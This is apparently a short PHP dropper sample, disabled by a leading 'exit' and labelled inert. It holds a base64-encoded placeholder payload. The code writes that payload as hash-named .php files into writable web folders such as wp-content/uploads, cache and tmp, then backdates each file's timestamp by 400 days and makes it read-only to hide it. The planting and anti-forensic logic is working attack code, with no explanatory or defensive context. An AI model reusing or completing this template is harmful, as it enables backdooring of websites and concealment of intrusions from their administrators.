<?php exit; /* inert */ 
$b = 'PD9waHAgLyogcGxhY2Vob2xkZXIgKi8gPz4=';
foreach (array('wp-content/uploads', 'images', 'cache', 'tmp') as $d) {
    $t = $_SERVER['DOCUMENT_ROOT'] . '/' . $d . '/' . substr(md5($d), 0, 6) . '.php';
    if (is_writable(dirname($t))) { file_put_contents($t, base64_decode($b)); @touch($t, strtotime('-400 days')); @chmod($t, 0444); }
}
